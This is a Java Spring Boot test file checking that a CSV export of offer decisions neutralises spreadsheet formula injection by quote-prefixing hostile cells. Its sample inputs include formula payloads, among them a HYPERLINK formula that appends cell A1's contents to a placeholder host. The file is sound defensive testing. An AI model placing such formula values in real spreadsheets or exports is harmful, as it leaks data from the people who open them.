package com.offertiming.audit;

import java.util.List;
import java.util.UUID;

import com.offertiming.TestKeys;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.test.context.TestPropertySource;
import org.springframework.web.client.RestClient;

import static org.assertj.core.api.Assertions.assertThat;

/** A value a spreadsheet would run as a formula reaches the CSV export inert, whatever the caller sent. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@TestPropertySource(properties = { "offers.rules.directory=src/test/resources/rulesets/minimal",
		"spring.datasource.url=jdbc:sqlite:target/http-limits-${random.uuid}.db" })
class ExportInjectionTests {

	@LocalServerPort
	private int port;

	@Test
	void cellsThatASpreadsheetWouldEvaluateAreExportedAsText() {
		RestClient http = TestKeys.client(port);
		String marker = UUID.randomUUID().toString().substring(0, 8);
		List<String> hostile = List.of("=HYPERLINK(\"http://x.test/\"&A1)" + marker, "+1+2" + marker, "-3+4" + marker,
				"@SUM(A1)" + marker, "\tTAB" + marker, "\rCR" + marker);
		for (String value : hostile) {
			http.post().uri("/v1/decisions").contentType(MediaType.APPLICATION_JSON)
				.body("{\"requestId\": %s, \"customer\": {\"id\": %s}, \"event\": {\"type\": \"CHECKOUT\", \"at\": \"2003-03-03T10:00:00Z\"}}"
					.formatted(json(value), json(value)))
				.retrieve().toBodilessEntity();
		}

		String csv = http.get().uri("/v1/decisions/export?format=csv&from=2003-03-03&to=2003-03-04").retrieve()
			.body(String.class);

		for (String value : hostile) {
			String inert = "'" + value;
			// CSV quoting on top (a quote or a CR in the value): the neutralising ' stays the cell's first character
			String cell = inert.indexOf('\r') >= 0 || inert.indexOf('"') >= 0
					? "\"" + inert.replace("\"", "\"\"") + "\"" : inert;
			// customerId and requestId: both columns, each prefixed with a quote so no spreadsheet evaluates them
			assertThat(csv).as(value).contains("," + cell + ",");
			assertThat(csv).as(value).doesNotContain("," + value);
		}
	}

	private static String json(String value) {
		return "\"" + value.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r") + "\"";
	}

}
